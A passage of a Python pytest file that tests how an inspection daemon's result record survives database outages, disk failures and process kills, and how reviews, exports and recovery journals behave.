"""The line's record: every published result kept in a real SQLite file with its evidence,
whatever the subscribers do; reviews as rows of their own; the reviewed evidence exported as
training data; a database that is down for a while; the evidence quota."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import json
import logging
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import tempfile
import threading
import time
import uuid
from contextlib import contextmanager
from pathlib import Path
from unittest import mock

import cv2
import numpy as np
import pytest
import sqlalchemy as sa

from edge import vqad_version
from edge.durable import write_synced
from edge.errors import ConfigError, DataError, ReviewedSinceError
from edge.protocol import frame_message, result_header
from edge.record import Record, RecordWriter, store
from edge.record.schema import SCHEMA_VERSION, meta, metadata, results, stored_version
from edge.results import Result
from edge.transport import free_loopback_port
from tests.browser import wait_for
from tests.conftest import run_vqad
from tests.edge_helpers import Camera, DaemonProcess, Subscriber, write_protected


@pytest.fixture(autouse=True)
def _quick_flush(monkeypatch):
    """The in-process writers commit what they hold every 50 ms instead of every 0.5 s: what a
    batch holds is the same, and each `_store` waits a tenth as long. The daemons these tests
    start as processes keep the shipped FLUSH_S."""
    monkeypatch.setattr("edge.record.writer.FLUSH_S", 0.05)


@pytest.fixture(params=["sqlite", "postgresql"])
def record_url(request, tmp_path):
    """A fresh record database: a SQLite file, or a new database on the throwaway PostgreSQL server."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'line.db'}"
    return _new_database(request.getfixturevalue("postgres_url"))


def _new_database(server: str) -> str:
    """A new, empty database on the throwaway PostgreSQL server -> its URL."""
    name = f"t_{uuid.uuid4().hex[:12]}"
    admin = sa.create_engine(server, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f"CREATE DATABASE {name}"))
    admin.dispose()
    return server.replace("@/postgres?", f"@/{name}?")


def _count(url: str) -> int:
    engine = sa.create_engine(url)
    try:
        with engine.connect() as conn:
            return conn.execute(sa.text("SELECT COUNT(*) FROM results")).scalar_one()
    except sa.exc.SQLAlchemyError:
        return 0
    finally:
        engine.dispose()


@contextmanager
def database_down(url: str):
    """The database refuses the writer for a while: another process holds SQLite's write lock;
    PostgreSQL stops taking connections and drops the open ones."""
    if url.startswith("sqlite"):
        blocker = sqlite3.connect(sa.make_url(url).database, timeout=1)
        blocker.execute("BEGIN EXCLUSIVE")
        try:
            yield
        finally:
            blocker.rollback()
            blocker.close()
        return
    name = sa.make_url(url).database
    admin = sa.create_engine(url.replace(f"@/{name}?", "@/postgres?"), isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f"ALTER DATABASE {name} ALLOW_CONNECTIONS false"))
        conn.execute(sa.text(f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"))
    try:
        yield
    finally:
        with admin.connect() as conn:
            conn.execute(sa.text(f"ALTER DATABASE {name} ALLOW_CONNECTIONS true"))
        admin.dispose()


def _result(
    camera: str, frame_id: int, decision: str = "fail", ts_ns: int | None = None, health: dict | None = None
) -> Result:
    header = result_header(camera, frame_id, ts_ns or time.time_ns(), "ok", 1.0, {"name": "m", "sha256": "ab" * 32},
                           score=2.0 if decision == "fail" else 0.5, decision=decision, batch_size=1)  # fmt: skip
    if health is not None:
        header["health"] = health
    noise = (np.random.default_rng(frame_id).random((64, 64, 3)) * 255).astype(np.uint8)  # ~12 KB as PNG
    # Received when it was taken: a capture time far from its receive time is a clock to fix,
    # and the record keeps the receive time instead (edge.protocol.capture_time_ns).
    return Result(header, recv_ns=ts_ns or time.time_ns(), frame=noise)


def test_every_result_is_recorded_with_no_subscriber_and_reviews_feed_training(tiny_model, tmp_path, record_url):
    url = record_url
    n = 24
    evidence = tmp_path / "evidence"
    args = ("--record", url, "--evidence-dir", str(evidence), "--set", "edge.record_pass_fraction=0")
    with DaemonProcess(tiny_model, *args) as daemon:
        cam = Camera(daemon.frames)  # nobody subscribes: PUB drops every result, the record keeps them
        try:
            rng = np.random.default_rng(0)
            for i in range(n):
                image = (rng.random((48, 48, 3)) * 255).astype(np.uint8)
                cam.send(frame_message("cam1", i, image, "raw", part_id=f"SN-{i:04d}" if i % 2 else None))
            cam.send([b"{not json"])  # an unreadable message gets no result and no row
            bad_png = frame_message("cam2", 0, np.zeros((8, 8, 3), np.uint8), "png", part_id="SN-9999")
            cam.send([bad_png[0], b"\x89PNG\r\n\x1a\n truncated"])  # an error result keeps its part_id
        finally:
            cam.close()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and _count(url) < n + 1:
            time.sleep(0.2)
    assert _count(url) == n + 1
    if url.startswith("sqlite"):
        with sqlite3.connect(sa.make_url(url).database) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    record = Record(url)
    rows = record.results(camera="cam1", limit=1000)
    assert sorted(r["frame_id"] for r in rows) == list(range(n))
    sha = json.loads((tiny_model / "model.json").read_text())["files"]["model.onnx"]
    assert all(r["model_sha256"] == sha and r["status"] == "ok" and r["published_ns"] >= r["received_ns"] for r in rows)
    assert all(r["mask_sha256"] is None and "mask_sha256" not in r["model"] for r in rows)  # the whole frame judged
    fails = [r for r in rows if r["decision"] == "fail"]
    passes = [r for r in rows if r["decision"] == "pass"]
    assert all(r["evidence"].startswith(str(evidence)) and r["evidence_overlay"] for r in fails)  # every fail's
    assert all(r["evidence"] is None for r in passes)  # record_pass_fraction 0: no pass does
    assert fails, "random frames should fail the tiny model"
    # Review through the CLI; the decision itself is never overwritten.
    target = fails[0]
    said = run_vqad("review", url, "cam1", target["frame_id"], "--verdict", "false_reject", "--by", "ann").stderr
    assert "reviewed before" not in said, said
    if len(fails) > 1:
        run_vqad("review", url, "cam1", fails[1]["frame_id"], "--verdict", "defect", "--kind", "scratch")
    assert {r["frame_id"]: r["part_id"] for r in rows} == {i: f"SN-{i:04d}" if i % 2 else None for i in range(n)}
    part = json.loads(run_vqad("records", url, "--part-id", "SN-0003", "--format", "json").stdout)
    assert [(r["camera_id"], r["frame_id"]) for r in part] == [("cam1", 3)]
    # The table says what an audit asks first: the decision, and the score beside its threshold.
    header, row = run_vqad("records", url, "--part-id", "SN-0003").stdout.splitlines()[:2]
    assert header.split()[5:8] == ["dec.", "score", "threshold"], header
    assert row.split()[6:9] == [part[0]["decision"], f"{part[0]['score']:.4g}", f"{part[0]['threshold']:.4g}"], row
    # And the highest region's box, as `vqad calibrate --ignore` takes it (a date code, a label).
    top = max(part[0]["regions"], key=lambda g: g["peak"]) if part[0]["regions"] else None
    assert header.split()[8:10] == ["region", "X,Y,W,H"] and row.split()[9] == (
        f"{top['x']},{top['y']},{top['w']},{top['h']}" if top else "-"
    ), row
    (error,) = record.results(part_id="SN-9999")
    assert error["status"] == "error" and error["camera_id"] == "cam2" and "truncated" in error["error"]
    out = json.loads(run_vqad("records", url, "--frame-id", target["frame_id"], "--format", "json").stdout)
    assert len(out) == 1 and out[0]["decision"] == "fail" and out[0]["reviews"][0]["verdict"] == "false_reject"
    # Another verdict on it says which it follows: the latest counts.
    said = run_vqad("review", url, "cam1", target["frame_id"], "--verdict", "defect", "--kind", "dent").stderr
    assert re.search(r"WARNING .*it was reviewed before: false_reject by ann at [-\d]{10} [:\d]{8} UTC; this review, "
                     r"the latest, is the one the daily tally counts", said), said  # fmt: skip
    assert [r["verdict"] for r in record.results(frame_id=target["frame_id"], camera="cam1")[0]["reviews"]] == [
        "false_reject", "defect",
    ]  # fmt: skip
    for key in (
        "camera_id",
        "frame_id",
        "ts_ns",
        "status",
        "decision",
        "score",
        "threshold",
        "model_sha256",
        "evidence",
    ):
        assert key in out[0], key
    assert len(json.loads(run_vqad("records", url, "--decision", "fail", "--format", "json").stdout)) == len(fails)
    # What is left to review, and what was (runs on PostgreSQL too: the filter is SQL).
    unreviewed = run_vqad("records", url, "--decision", "fail", "--unreviewed", "--format", "json").stdout
    reviewed = run_vqad("records", url, "--reviewed", "--format", "json").stdout
    done = {f["frame_id"] for f in fails[:2]}
    # The noise frames' fails are the camera health gate's (below): none waits for a verdict.
    assert {r["frame_id"] for r in json.loads(unreviewed)} == {f["frame_id"] for f in fails if not f["unfit"]} - done
    assert {r["frame_id"] for r in json.loads(reviewed)} == done
    csv_lines = run_vqad("records", url, "--camera", "cam1", "--format", "csv").stdout.splitlines()
    assert (
        len(csv_lines) == n + 1
        and csv_lines[0].endswith(
            ",part_id,unfit,result_id,time,overlay,run,seq,master,master_outcome,region,mask_sha256,recovered"
        )
        and "SN-0001" in "".join(csv_lines)
    )
    by_frame = {int(r["frame_id"]): r for r in csv.DictReader(csv_lines)}
    for r in rows:  # the time as a spreadsheet reads it, and a fail's heat map beside its frame
        assert dt.datetime.fromisoformat(by_frame[r["frame_id"]]["time"]).timestamp() == r["ts_ns"] // 10**9
        assert by_frame[r["frame_id"]]["overlay"] == (r["evidence_overlay"] if r["evidence"] else "")
        top = max(r["regions"], key=lambda g: g["peak"]) if r["regions"] else None
        assert by_frame[r["frame_id"]]["region"] == (",".join(str(top[k]) for k in "xywh") if top else "")
    # Noise is not the part: the daemon's camera health gate fails such frames, and the record says why.
    reasons = {"aspect", "blurred", "exposure", "clipped", "moved", "frozen"}
    assert any(r["unfit"] for r in rows) and all(set((r["unfit"] or "exposure").split(",")) <= reasons for r in rows)
    assert (
        json.loads(
            run_vqad("records", url, "--since", "2000-01-01", "--until", "2000-01-02", "--format", "json").stdout
        )
        == []
    )
    # Noise is no picture of a part: reviewed or not, it feeds no training and no test set (the
    # reviewed frames of parts that do: test_a_review_is_of_one_result_when_a_sender_used_its_frame_id_twice).
    exported = tmp_path / "reviewed"
    said = run_vqad("records", url, "--export-reviewed", exported)
    assert not list(exported.rglob("*.png")) and "whose frame the camera health gate found unfit" in said.stderr
    bad = run_vqad("review", url, "cam1", 99999, "--verdict", "defect", check=False)
    assert bad.returncode != 0 and "no recorded result for camera 'cam1', frame 99999\n" in bad.stderr
    bad = run_vqad("review", url, "CAM1", target["frame_id"], "--verdict", "defect", check=False)  # ids are exact
    assert bad.returncode != 0 and "(the record holds no result of a camera 'CAM1' at all)" in bad.stderr


def _waiting(writer: RecordWriter, n: int, timeout_s: float = 20.0) -> None:
    """Hand `n` results to a started writer whose database refuses it: once a transaction has
    failed (within `timeout_s`), they all wait in its buffer."""
    for i in range(n):
        writer.put(_result("c", i), time.time_ns())
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline and writer.metrics.record_errors._value.get() < 1:
        time.sleep(0.1)
    assert writer.metrics.record_errors._value.get() >= 1 and writer.recorded == 0 and len(writer.buffer) == n


def test_a_database_that_is_down_for_a_while_loses_nothing(tmp_path, record_url):
    """While the database refuses the writer, results wait in its buffer and the failed
    transactions are retried; once it is back, every result is recorded."""
    writer = RecordWriter(record_url, tmp_path / "evidence").start()
    with database_down(record_url):
        _waiting(writer, 10)
    writer.close()
    assert writer.recorded == 10 and writer.unrecorded == 0
    assert len(Record(record_url).results(limit=100)) == 10


def test_a_change_to_the_daemon_made_while_the_database_is_down_is_recorded_once_it_is_back(
    tmp_path, record_url, caplog
):
    """A threshold set, or a camera paused, while the database refuses the writer is the audit's
    row all the same: it waits in memory and is written, in order and with the time it was made,
    once the record answers; it was logged as lost and never written."""
    writer = RecordWriter(record_url, tmp_path / "evidence").start()
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        with database_down(record_url):
            before = time.time_ns()
            writer.event("set-threshold", {"from": 1.0, "to": 1.2, "reason": "audit"}, "ann")
            writer.event("pause", {"camera": "cam0"}, "bob")  # behind the first, whatever the record does
            made = time.time_ns()
            assert "the record cannot keep the set-threshold by ann now" in caplog.text
            assert len(writer._events_waiting) == 2
        assert wait_for(lambda: not writer._events_waiting, 20)
        writer.close()
    assert "change(s) to the daemon that waited for it" in caplog.text  # in one go or two: the writer's timing
    rows = Record(record_url).events()[::-1]  # oldest first
    assert [(r["kind"], r["by"]) for r in rows] == [("set-threshold", "ann"), ("pause", "bob")]
    assert all(before <= r["ts_ns"] <= made for r in rows) and rows[0]["detail"]["reason"] == "audit"


def test_a_stopped_runs_count_is_read_from_its_stop_row_after_every_result_it_counts(tmp_path, record_url, monkeypatch):
    """The daemon's stop goes to the record after the results the writer still held: a reader
    that finds the row finds every result it counts that the record will ever hold."""
    run, written = "a" * 32, []
    writer = RecordWriter(record_url, tmp_path / "evidence", run_id=run)  # not started: all 3 wait
    for method, what in (("_store", "results"), ("_insert_events", "stop")):
        real = getattr(writer, method)
        monkeypatch.setattr(writer, method, lambda *args, real=real, what=what: (written.append(what), real(*args)))
    for i in range(3):
        writer.put(_result("c", i), time.time_ns())
    writer.start().close(last_change=("stop", {"run": run, "published": 3, "cause": "SIGTERM"}, "vqad serve"))
    assert written == ["results", "stop"] and writer.recorded == 3
    record = Record(record_url)
    assert record.run_published(run) == 3 and record.run_published("b" * 32) is None  # a run killed: no row


class _KilledError(Exception):
    pass


class _KilledAtCommit:
    """An engine whose transaction never begins: the process killed between a batch's images
    and its commit."""

    def begin(self):
        raise _KilledError


def test_the_results_a_killed_writer_held_are_put_back_from_its_journal(tmp_path, record_url):
    """A daemon killed while its writer held results (a batch writing its evidence, the rest
    waiting) lost them: a probe at 40 fails/s lost 43 of 129. Each result handed over is in the
    run's journal, in the kernel before put() returns; the next start puts back the rows the
    record lacks, by run and seq, with the images the killed batch had written whole, and the
    journal goes."""
    from edge.record.journal import JOURNAL_PREFIX

    state, killed_run = tmp_path / "state", "a" * 32
    state.mkdir()
    killed = RecordWriter(record_url, tmp_path / "evidence", state_file=state / "vqad-serve.record.json",
                          run_id=killed_run)  # fmt: skip
    for i in range(5):
        result = _result("c", i)
        result.header["seq"] = i  # as the daemon publishes it
        killed.put(result, time.time_ns())
    killed._store(list(killed.buffer)[:2])  # its first batch committed, then the kill
    with killed.lock:
        killed._take_off(2)
    committed, killed.engine = killed.engine, _KilledAtCommit()  # the next batch's images written, then the kill
    with pytest.raises(_KilledError):
        killed._store(list(killed.buffer)[:2])
    frames = sorted((tmp_path / "evidence" / "c").rglob("[23]_*.png"))
    assert len(frames) == 2
    frames[1].write_bytes(frames[1].read_bytes()[:500])  # seq 3's, cut (a power cut would leave it so)
    journal = state / f"{JOURNAL_PREFIX}{killed_run}.jsonl"
    assert len(journal.read_bytes().splitlines()) == 5  # the whole run's, until its writer has none left
    with journal.open("ab") as f:
        f.write(b'{"camera_id": "c", "frame_id": 9, "se')  # a line the kill cut
    committed.dispose()
    started_ns = time.time_ns()
    again = RecordWriter(record_url, tmp_path / "evidence", state_file=state / "vqad-serve.record.json",
                         run_id="b" * 32)  # fmt: skip
    try:
        rows = sorted(Record(record_url).results(camera="c"), key=lambda r: r["seq"])
        assert [(r["seq"], r["daemon_run"], r["decision"]) for r in rows] == [(i, killed_run, "fail") for i in range(5)]
        # seq 2 with the images its batch had written whole; seq 3's cut, and seq 4 never had any
        assert [bool(r["evidence"]) for r in rows] == [True, True, True, False, False]
        assert Path(rows[2]["evidence"]).is_file() and not frames[1].exists()  # the cut one removed, no row names it
        assert again.previous_recovered == {"run": killed_run, "recovered": 3, "with_images": 1}
        # Each row put back says when, so that an audit tells its lost images from the quota's work.
        assert [r["recovered_ns"] for r in rows[:2]] == [None, None]  # its own run committed these
        assert all(started_ns <= r["recovered_ns"] <= time.time_ns() for r in rows[2:]), rows
        assert again.previous_lost is None
        assert not journal.exists() and (state / f"{JOURNAL_PREFIX}{'b' * 32}.jsonl").exists()
        again.start()
        again.put(_result("c", 10), time.time_ns())
        assert wait_for(lambda: again.recorded == 1, 10)
        assert (state / f"{JOURNAL_PREFIX}{'b' * 32}.jsonl").stat().st_size == 0  # nothing waits: it starts again
    finally:
        again.close()
    assert not list(state.glob(f"{JOURNAL_PREFIX}*"))  # a clean stop leaves none


def test_results_left_at_a_stop_while_the_record_is_down_are_put_back_at_the_next_start(tmp_path, monkeypatch):
    """A daemon stopped while its record does not answer (a database server in maintenance)
    counted the results it held unrecorded, and they were gone. Its journal stays for them."""
    from edge.record.journal import JOURNAL_PREFIX

    url, state, down = f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "state", "a" * 32
    state.mkdir()
    writer = RecordWriter(url, tmp_path / "evidence", state_file=state / "vqad-serve.record.json", run_id=down)

    def unanswered(batch):
        raise sa.exc.OperationalError("INSERT", {}, Exception("the server does not answer"))

    monkeypatch.setattr(writer, "_store", unanswered)
    for i in range(3):
        result = _result("c", i)
        result.header["seq"] = i
        writer.put(result, time.time_ns())
    writer.start().close(timeout=0.5)
    assert writer.unrecorded == 3 and (state / f"{JOURNAL_PREFIX}{down}.jsonl").exists()
    again = RecordWriter(url, tmp_path / "evidence", state_file=state / "vqad-serve.record.json", run_id="b" * 32)
    try:
        assert again.previous_recovered == {"run": down, "recovered": 3, "with_images": 0}
        assert sorted(r["seq"] for r in Record(url).results(camera="c")) == [0, 1, 2]
    finally:
        again.start().close()


def test_a_journal_past_its_bound_takes_no_more_lines_until_the_writer_catches_up(tmp_path, monkeypatch, caplog):
    """A record down for long: the results wait in memory (counted), and the journal stops at
    its bound instead of filling the state folder's disk; it takes lines again once emptied."""
    from edge.record import journal as journal_module
    from edge.record.journal import Journal, journal_rows, previous_journals

    monkeypatch.setattr(journal_module, "JOURNAL_MAX_BYTES", 300)
    journal = Journal(tmp_path, "r1")
    for i in range(10):
        journal.add({"seq": i, "camera_id": "c", "regions": [{"x": 1, "y": 2, "w": 3, "h": 4}]})
    kept = journal_rows(journal.path)
    assert 0 < len(kept) < 10 and [r["seq"] for r in kept] == list(range(len(kept))) and journal.full
    assert "until the record catches up, a kill loses the results waiting for it" in caplog.text
    journal.emptied()
    journal.add({"seq": 10})
    journal.sync()
    assert journal_rows(journal.path) == [{"seq": 10}] and not journal.full
    assert previous_journals(tmp_path, "r2") == {"r1": journal.path} and previous_journals(tmp_path, "r1") == {}
    journal.close()
    assert not journal.path.exists()


def test_changes_the_record_never_took_are_named_when_the_writer_stops(tmp_path, caplog):
    database = tmp_path / "line.db"
    writer = RecordWriter(f"sqlite:///{database}", tmp_path / "evidence").start()
    with caplog.at_level(logging.ERROR, logger="edge.record.writer"), database_down(f"sqlite:///{database}"):
        writer.event("set-threshold", {"from": 1.0, "to": 1.2}, "ann")
        writer.close(timeout=1)
    assert "the record's writer stopped with changes to the daemon unrecorded: set-threshold by ann" in caplog.text


def test_a_database_server_down_at_start_does_not_stop_the_line(tmp_path, record_url, caplog):
    """The box boots before the plant's database server: the writer starts, the results wait in
    its buffer, and they are recorded once the server answers. A SQLite file that cannot be
    opened is this machine's mistake, and stops the start."""
    if record_url.startswith("sqlite"):
        (tmp_path / "line.db").mkdir()  # a folder where the file should be
        with pytest.raises(DataError, match="cannot open the record"):
            RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev")
        return
    with database_down(record_url):
        with caplog.at_level(logging.WARNING, logger="edge.record.writer"):
            writer = RecordWriter(record_url, tmp_path / "evidence").start()
        assert "the results wait in the buffer" in caplog.text
        _waiting(writer, 5)
    writer.close()
    assert writer.recorded == 5 and len(Record(record_url).results(limit=10)) == 5


def test_a_query_held_by_a_lock_shows_as_a_record_that_falls_behind(tmp_path, postgres_url, monkeypatch, caplog):
    """A server that is up, with the results table locked by another session (a DBA's
    maintenance, a program's long transaction): the writer's insert waits without an error,
    so no retry or error count says so. How long the oldest result has waited does: in the
    metric, the heartbeat's status and one log line; and again when the lock goes."""
    from edge.record import writer as writer_module

    monkeypatch.setattr(writer_module, "RECORD_BEHIND_S", 0.5)
    url = _new_database(postgres_url)
    writer = RecordWriter(url, tmp_path / "evidence").start()
    holder = sa.create_engine(url)
    try:
        with holder.connect() as conn, caplog.at_level(logging.INFO, logger="edge.record.writer"):
            conn.execute(sa.text("LOCK TABLE results IN ACCESS EXCLUSIVE MODE"))  # held until the rollback
            for i in range(3):
                writer.put(_result("c", i, decision="pass"), time.time_ns())
            assert wait_for(lambda: writer.behind_s() >= 0.6, 5)
            writer.watch_lag()
            writer.watch_lag()  # once per episode
            assert writer.metrics.record_errors._value.get() == 0 and writer.recorded == 0  # no error says it
            assert writer.metrics.registry.get_sample_value("vqad_record_behind_seconds") >= 0.6
            assert writer.status()["pending"] == 3 and writer.status()["behind_s"] >= 0.6
            conn.rollback()
            assert wait_for(lambda: writer.recorded == 3, 10)
            writer.watch_lag()
        # Held, never refused: no error; and nothing set aside.
        assert writer.behind_s() == 0.0 and writer.status() == {"pending": 0, "behind_s": 0.0, "unrecorded": 0,
                                                                "error": None, "set_aside": None}  # fmt: skip
        behind = [r.getMessage() for r in caplog.records if "behind: 3 results wait" in r.getMessage()]
        assert len(behind) == 1 and "the record is" in behind[0]
        assert "the record has caught up after" in caplog.text
    finally:
        writer.close(timeout=5)
        holder.dispose()


def test_a_clock_set_while_results_wait_is_not_a_record_behind(tmp_path, monkeypatch):
    """A board without a clock battery starts at a wrong time and is set by NTP while the daemon
    serves: the wait is measured on the monotonic clock, so a jump of a day is not a record a
    day behind (and no error line at every such boot)."""
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev")  # not started: they wait
    try:
        for i in range(2):
            writer.put(_result("c", i, decision="pass"), time.time_ns())
        day_later = time.time_ns() + 86_400 * 10**9
        monkeypatch.setattr(time, "time_ns", lambda: day_later)
        assert 0.0 <= writer.behind_s() < 5.0 and writer.status()["pending"] == 2
    finally:
        writer.engine.dispose()


@contextmanager
def silent_server():
    """A loopback port that takes every connection and never answers: a hung database server,
    or a proxy with nothing behind it. -> its port."""
    server = socket.create_server(("127.0.0.1", 0))
    taken: list[socket.socket] = []

    def take() -> None:
        while True:
            try:
                taken.append(server.accept()[0])
            except OSError:  # closed
                return

    threading.Thread(target=take, daemon=True).start()
    try:
        yield server.getsockname()[1]
    finally:
        server.close()
        for conn in taken:
            conn.close()


def test_a_database_server_that_never_answers_neither_holds_the_start_nor_the_writer(tmp_path, monkeypatch, caplog):
    """A server that takes the connection and never answers fails it within connect_timeout:
    the daemon's start goes on, and the results wait in the buffer, as for a server that is
    down. Without a timeout, the start waited for ever."""
    monkeypatch.setitem(store.SERVER_TIMEOUTS, "connect_timeout", 2)  # libpq's least
    made: list[RecordWriter] = []
    with silent_server() as port, caplog.at_level(logging.WARNING, logger="edge.record.writer"):
        url = f"postgresql://vqad@127.0.0.1:{port}/line"
        start = threading.Thread(target=lambda: made.append(RecordWriter(url, tmp_path / "ev")), daemon=True)
        start.start()
        start.join(timeout=15)
        assert made, "the writer's start waited on a server that never answers"
        assert "connection timeout expired" in caplog.text and "the results wait in the buffer" in caplog.text
        writer = made[0].start()
        _waiting(writer, 3, timeout_s=15)
        writer.close(timeout=1)
    assert writer.unrecorded == 3


def test_a_server_connection_carries_its_timeouts_unless_the_url_sets_them(postgres_url):
    """libpq is given the keepalives, the unacknowledged-data limit and the connect timeout; a
    URL's own value wins; a PostgreSQL URL without a driver uses psycopg 3."""
    bare = postgres_url.replace("postgresql+psycopg://", "postgresql://") + "&connect_timeout=4"
    engine = store.create_engine(bare)
    try:
        assert engine.dialect.driver == "psycopg"
        with engine.connect() as conn:
            given = conn.connection.driver_connection.info.get_parameters()
    finally:
        engine.dispose()
    assert given["connect_timeout"] == "4"
    assert given["keepalives_idle"] == "30" and given["keepalives_count"] == "3"
    assert given["tcp_user_timeout"] == "30000"


def test_a_record_url_of_another_database_is_refused_by_name(tmp_path, monkeypatch):
    """A MySQL or other URL is a config error that names the two databases a record is made for
    (and hides the password), not a missing-driver error; a relative SQLite path is shown whole."""
    with pytest.raises(
        ConfigError, match=r"SQLite file .* or a PostgreSQL database .*not mysql: 'mysql://u:\*\*\*@h/db'"
    ):
        store.create_engine("mysql://u:secret@h/db")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DataError, match=f"no record at {tmp_path / 'line.db'}:"):
        store.create_engine("sqlite:///line.db", must_exist=True)


def test_a_sqlite_record_on_a_full_disk_does_not_stop_the_line(tmp_path, monkeypatch, caplog):
    """A SQLite record that cannot be opened while its disk is full (something else filled it):
    the start goes on, the results wait in the buffer, and they are recorded once there is
    room, without evidence while the disk is nearly full. Before, the start stopped (exit 3),
    and under systemd every start after it, every 2 s: the line stood for its record."""
    from edge.record import writer as writer_module

    database = tmp_path / "line.db"
    database.mkdir()  # the file cannot be opened: here a folder in its place, on a full disk
    monkeypatch.setattr(writer_module, "free_bytes", lambda _folder: 0)
    with caplog.at_level(logging.ERROR, logger="edge.record.writer"):
        writer = RecordWriter(f"sqlite:///{database}", tmp_path / "ev").start()
    assert "and its disk is full; the results wait in the buffer" in caplog.text
    _waiting(writer, 3)
    assert any("and its disk is full; the daemon would serve" in line for line in _serve_check_lines(database))
    database.rmdir()  # room again
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and writer.recorded < 3:
        time.sleep(0.1)
    writer.close()
    rows = Record(f"sqlite:///{database}").results(limit=10)
    assert writer.recorded == 3 and len(rows) == 3 and all(row["evidence"] is None for row in rows)
    assert writer.evidence_failed == 3  # each written without its images: the rows come first
    monkeypatch.setattr(writer_module, "free_bytes", lambda _folder: 10**12)
    (tmp_path / "other.db").mkdir()
    with pytest.raises(DataError, match="cannot open the record"):  # with room, the path is the mistake
        RecordWriter(f"sqlite:///{tmp_path / 'other.db'}", tmp_path / "ev")


def test_a_record_whose_disk_turns_read_only_is_named_so_and_its_images_written_once_it_is_not(
    tmp_path, monkeypatch, caplog
):
    """The kernel makes a worn SD card or eMMC read-only after a write error, and SQLite then
    says only "disk I/O error". The start and the outage's lines name the read-only filesystem,
    the line of a record a minute behind gives that error rather than guess at a lock, a batch
    retried writes its images again, and counts none as missing once the disk is writable and
    they are written, and `vqad serve --check` refuses the record's folder."""
    import types

    from edge import durable
    from edge.record import writer as writer_module

    database = tmp_path / "line.db"
    read_only = threading.Event()
    read_only.set()

    def probe_file(*args, **kwargs):  # what creating a file on a read-only filesystem raises
        if read_only.is_set():
            raise OSError(errno.EROFS, "Read-only file system")
        return tempfile.TemporaryFile(*args, **kwargs)

    def write_image(path, image, synced=False):
        if read_only.is_set():
            raise OSError(errno.EROFS, f"Read-only file system: {path!r}")
        real_write_image(path, image, synced)

    real_write_image = writer_module.write_image
    monkeypatch.setattr(durable, "tempfile", types.SimpleNamespace(TemporaryFile=probe_file))  # the one trial file
    monkeypatch.setattr(writer_module, "write_image", write_image)
    monkeypatch.setattr(writer_module, "RECORD_BEHIND_S", 0.5)
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        writer = RecordWriter(f"sqlite:///{database}", tmp_path / "ev")
        real_begin = writer.engine.begin

        def begin():
            if read_only.is_set():
                raise sa.exc.OperationalError("INSERT INTO results", {}, sqlite3.OperationalError("disk I/O error"))
            return real_begin()

        monkeypatch.setattr(writer.engine, "begin", begin)
        writer.start()
        _waiting(writer, 3)
        assert wait_for(lambda: writer.metrics.record_errors._value.get() >= 3, 20)  # retried twice or more
        assert wait_for(lambda: writer.behind_s() >= 0.6, 5)
        writer.watch_lag()
        assert writer.status()["error"].startswith("disk I/O error (is its disk read-only?")  # for the heartbeat
        read_only.clear()
        assert wait_for(lambda: writer.recorded == 3, 20)
        writer.close()
    lines = [r.getMessage() for r in caplog.records]
    named = [line for line in lines if "is on a read-only filesystem" in line]
    assert named and all(f"the record {database} is on a read-only filesystem ({tmp_path})" in n for n in named)
    assert "a failing SD card or eMMC" in named[0] and len(named) == 2  # at start, and with the outage's line
    assert any("behind: 3 results wait for their rows (the last error: disk I/O error (is its disk read-only?" in line
               for line in lines)  # fmt: skip
    assert writer.status()["error"] is None  # answered again
    assert writer.evidence_failed == 0 and writer.metrics.evidence_failed._value.get() == 0  # written at last
    assert all(row["evidence"] for row in Record(f"sqlite:///{database}").results(limit=10))
    read_only.set()
    with pytest.raises(DataError, match=f"the record's folder {tmp_path} cannot be written .*Read-only file system"):
        _serve_check_lines(database)


def test_a_sqlite_write_its_disk_refuses_is_named_with_its_likeliest_cause(tmp_path):
    """A review from the page, or `vqad review`, on a SQLite record whose disk the kernel made
    read-only: SQLite's own words, the likeliest cause, and "cannot be written", not a server
    that "does not answer"."""
    from edge.dashboard.record_link import RecordLink

    def refused(message: str) -> sa.exc.OperationalError:
        return sa.exc.OperationalError("INSERT INTO reviews", {}, sqlite3.OperationalError(message))

    assert store.database_reason(refused("attempt to write a readonly database")) == (
        "attempt to write a readonly database (is its disk read-only? the kernel makes a failing SD card or eMMC "
        "read-only after a write error (see dmesg))"
    )
    assert store.database_reason(refused("database is locked")) == "database is locked"
    database = tmp_path / "line.db"
    Record(f"sqlite:///{database}").close()  # made, as by the daemon
    link = RecordLink(f"sqlite:///{database}")
    try:
        message = str(link.failed(refused("disk I/O error")))
        assert message.startswith(f"the record at sqlite:///{database} cannot be written: disk I/O error (is its disk")
        assert "does not answer" in str(link.failed(refused("unable to open database file")))
    finally:
        link.close()


def test_a_full_buffer_counts_what_it_could_not_keep(tmp_path, record_url):
    writer = RecordWriter(record_url, tmp_path / "ev", max_buffer=5)  # not started
    for i in range(8):
        writer.put(_result("c", i), time.time_ns())
    assert writer.unrecorded == 3 and writer.metrics.unrecorded._value.get() == 3
    writer.start().close()
    assert writer.recorded == 5


def test_a_stream_without_maps_still_records_each_fails_heat_map(tiny_model, tmp_path):
    """`publish_maps: false` spares the subscribers the map; the reviewer still gets the heat map
    over the frame: the record draws it from the map the stream was not sent."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    args = ("--record", url, "--threshold", "1e-9", "--set", "edge.publish_maps=false")
    image = (np.random.default_rng(3).random((40, 56, 3)) * 255).astype(np.uint8)
    with DaemonProcess(tiny_model, *args) as daemon:
        sub, cam = Subscriber(daemon.results), Camera(daemon.frames)
        try:
            cam.send(frame_message("c", 0, image, "raw"))
